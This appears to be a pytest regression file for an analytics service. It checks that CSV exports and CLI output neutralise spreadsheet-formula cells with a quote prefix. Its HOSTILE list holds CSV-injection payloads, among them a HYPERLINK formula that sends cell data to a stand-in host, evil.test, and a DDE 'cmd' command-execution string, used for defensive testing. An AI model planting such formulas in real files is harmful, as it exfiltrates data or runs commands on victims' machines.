"""Security issue 38, item 8: CSV exports ran as spreadsheet formulas.

Anyone with a project's public key (it is in every page) chooses event names, paths,
referrers, UTM values and properties. A CSV cell that begins with ``=``, ``+``, ``-``, ``@``,
a tab or a carriage return is a formula to a spreadsheet, so every CSV svc writes (GET
/export?format=csv, which ``svcm export`` writes too, and ``svcm metrics --csv``) puts a
single quote before such a text cell, and before one that begins with a quote (so that
``svcm import`` undoes it exactly). Numbers the service writes stay numbers; NDJSON and
Parquet stay exact.
"""

from __future__ import annotations

import csv
import io
import json
import time
import uuid
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote

import httpx
import pyarrow.parquet as pq

from svc.csv_cells import neutralised, unneutralised
from tests.cli.support import clean_env, svcm
from tests.support import BROWSER_UA, Server

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("https://evil.test/?d="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "'quoted",
]
#: The columns the export writes as numbers: never quoted, a number in every row.
NUMERIC = ("ts_ms", "session_id", "visitor_id", "screen_width", "received_ms")


def _events(now_ms: int) -> list[dict[str, Any]]:
    out = []
    for n, name in enumerate(HOSTILE):
        out.append(
            {
                "event": name,
                "url": f"https://acme.test/p{n}?utm_source={quote(name, safe='')}"
                "&utm_campaign=%3Dcampaign",
                "referrer": "=referrer" if n % 2 else "https://news.test/",
                "properties": {"plan": name, "=key": "-1"},
                "ts": now_ms - 60_000 + n,
                "sessionId": f"s{n}",
            }
        )
    out.append({"event": "signup", "url": "https://acme.test/plain", "ts": now_ms - 1000})
    return out


def _export(srv: Server, secret: str, fmt: str) -> httpx.Response:
    day = datetime.now(UTC).date()
    r = httpx.get(
        srv.url + "/export",
        params={"from": (day - timedelta(days=1)).isoformat(), "to": day.isoformat(), "tz": "UTC"}
        | {"format": fmt},
        headers={"Authorization": f"Bearer {secret}"},
        timeout=60,
    )
    assert r.status_code == 200, r.text
    return r


def _ndjson(srv: Server, secret: str) -> list[dict[str, Any]]:
    return [json.loads(line) for line in _export(srv, secret, "ndjson").text.splitlines()]


def _number(cell: str) -> bool:
    """A cell svc wrote as a number (or a share such as ``40.0%``), or empty."""
    return cell == "" or cell.removeprefix("-").removesuffix("%").replace(".", "", 1).isdigit()


def _project(server: Server) -> tuple[str, str, list[dict[str, Any]]]:
    project = server.create_project(f"csv-{uuid.uuid4().hex[:8]}", domains=["acme.test"])
    public, secret = project["keys"]["public"], project["keys"]["secret"]
    events = _events(int(time.time() * 1000))
    r = server.send(public, events, headers={"User-Agent": BROWSER_UA})
    assert r.status_code == 200 and r.json()["accepted"] == len(events), r.text
    server.wait_loaded()
    return project["id"], secret, events


def test_every_text_cell_of_a_csv_export_is_neutralised(server: Server) -> None:
    _, secret, events = _project(server)
    text = _export(server, secret, "csv").text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == len(events)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(TRIGGERS), (column, cell)
        for column in NUMERIC:  # the service's numbers: plain digits, never quoted
            assert row[column].isdigit(), (column, row[column])
    by_name = {unneutralised(r["event"]): r for r in rows}
    assert sorted(by_name) == sorted(e["event"] for e in events)
    for name in HOSTILE:
        row = by_name[name]
        assert row["event"] == "'" + name
        assert row["utm_campaign"] == "'=campaign"
        assert row["utm_source"] == neutralised(name.lower())
        assert json.loads(row["properties"]) == {"plan": name, "=key": "-1"}  # JSON text: `{`
    assert by_name["signup"]["event"] == "signup"  # a harmless cell is as it was
    assert by_name["signup"]["path"] == "/plain"
    assert by_name[HOSTILE[1]]["referrer"] == "'=referrer"

    # NDJSON and Parquet are exact: every value as it was sent
    ndjson = [json.loads(line) for line in _export(server, secret, "ndjson").text.splitlines()]
    assert sorted(r["event"] for r in ndjson) == sorted(e["event"] for e in events)
    assert {r["properties"].get("plan") for r in ndjson} >= set(HOSTILE)
    table = pq.read_table(io.BytesIO(_export(server, secret, "parquet").content)).to_pylist()
    assert sorted(r["event"] for r in table) == sorted(e["event"] for e in events)
    # the CSV is the NDJSON with its text cells neutralised, row for row and in the same order
    assert [r["event_id"] for r in rows] == [neutralised(r["event_id"]) for r in ndjson]
    assert [r["event"] for r in rows] == [neutralised(r["event"]) for r in ndjson]


def test_svcm_writes_no_formula_and_imports_its_csv_back(server: Server, tmp_path: Path) -> None:
    pid, secret, events = _project(server)
    env = clean_env(tmp_path / "config.toml", SVC_URL=server.url, SVC_TOKEN=server.admin_token)
    day = datetime.now(UTC).date().isoformat()

    # svcm metrics --csv: the values (text visitors sent) are neutralised, numbers are not
    read = ("metrics", "-p", pid, "--from", day, "--tz", "UTC", "--by", "event", "--csv")
    by_event = svcm(*read, env=env).ok().stdout
    rows = list(csv.reader(io.StringIO(by_event, newline="")))
    assert rows[0][0] == "value"
    values = [r[0] for r in rows[1:]]
    # (the test reads svcm's output as text: universal newlines make its CR a LF)
    wanted = [str(neutralised(e["event"])).replace("\r", "\n") for e in events]
    assert sorted(values) == sorted(wanted)
    for r in rows[1:]:
        assert not r[0].startswith(TRIGGERS), r
        assert all(_number(cell) for cell in r[1:]), r

    # the comparison's changes: more of "-2+3" yesterday, so a negative change, a number
    yesterday = int(time.time() * 1000) - 86_400_000
    before = [{"event": "-2+3", "url": "https://acme.test/", "ts": yesterday + n} for n in range(3)]
    sent = server.send(secret, before, headers={"User-Agent": BROWSER_UA})
    assert sent.json()["accepted"] == 3, sent.text
    server.wait_loaded()
    compare = svcm(*read, "--compare", "previous_period", env=env).ok().stdout
    header, *body = list(csv.reader(io.StringIO(compare, newline="")))
    fewer = dict(zip(header, next(r for r in body if r[0] == "'-2+3"), strict=True))
    assert (fewer["events"], fewer["previous_events"], fewer["change_events"]) == (
        "1",
        "3",
        "-66.7",
    )
    for cells in body:
        assert not cells[0].startswith(TRIGGERS), cells
        assert all(_number(cell) for cell in cells[1:]), cells

    # svcm export --format csv is the API's CSV; svcm import reads it back exactly
    path = tmp_path / "events.csv"  # a file: its bytes as written (CRs too)
    svcm("export", "-p", pid, "--from", day, "--tz", "UTC", "-o", str(path), env=env).ok()
    exported = path.read_bytes().decode()
    assert exported.startswith('"ts_ms","event"')
    assert all(
        not cell.startswith(TRIGGERS)
        for row in csv.reader(io.StringIO(exported, newline=""))
        for cell in row
    )
    copy = server.create_project(f"csv-copy-{uuid.uuid4().hex[:8]}")
    imported = svcm("import", "-p", copy["id"], str(path), "--json", env=env).ok()
    assert imported.json()["imported"] == len(events)
    server.wait_loaded()
    again = _ndjson(server, copy["keys"]["secret"])
    assert sorted(r["event"] for r in again) == sorted(e["event"] for e in events)
    assert {r["properties"].get("plan") for r in again} >= set(HOSTILE)
    original = {r["event"]: r for r in _ndjson(server, secret)}
    for event in again:
        assert event["utm_source"] == original[event["event"]]["utm_source"]
        assert event["referrer"] == original[event["event"]]["referrer"]
